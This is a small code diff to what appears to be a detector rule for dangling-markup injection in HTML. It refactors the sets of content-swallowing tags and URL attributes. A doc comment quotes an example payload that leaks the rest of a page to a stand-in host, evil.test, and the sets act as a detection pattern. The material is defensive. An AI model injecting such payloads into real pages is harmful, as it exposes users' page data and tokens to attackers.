@@ -4,6 +4,7 @@ import { isForeignUrl, squeeze } from '../../grammars/html/markup.ts';
 import { confidence } from '../../placement/confidence.ts';
 import type { Subject } from '../../placement/subject.ts';
 import { charClass } from '../../text/char-class.ts';
+import { wordSet } from '../../text/words.ts';
 import type { Match, ValueRule } from '../rule.ts';
 
 /** `"><img src='//evil.test/?`: what follows on the page becomes part of a URL, or of a form. */
@@ -34,23 +35,10 @@ export const danglingMarkup: ValueRule = {
 };
 
 /** What swallows the page when it stays open. */
-const swallowing: ReadonlySet<string> = new Set([
-  'plaintext',
-  'textarea',
-  'xmp',
-  'style',
-  'title',
-  'noscript',
-  'option',
-]);
-const urlNames: ReadonlySet<string> = new Set([
-  'src',
-  'href',
-  'action',
-  'poster',
-  'background',
-  'data',
-]);
+const swallowing: ReadonlySet<string> = wordSet(
+  'plaintext textarea xmp style title noscript option',
+);
+const urlNames: ReadonlySet<string> = wordSet('src href action poster background data');
 
 function judgeDangling(subject: Subject): Match | undefined {
   const { text } = subject;
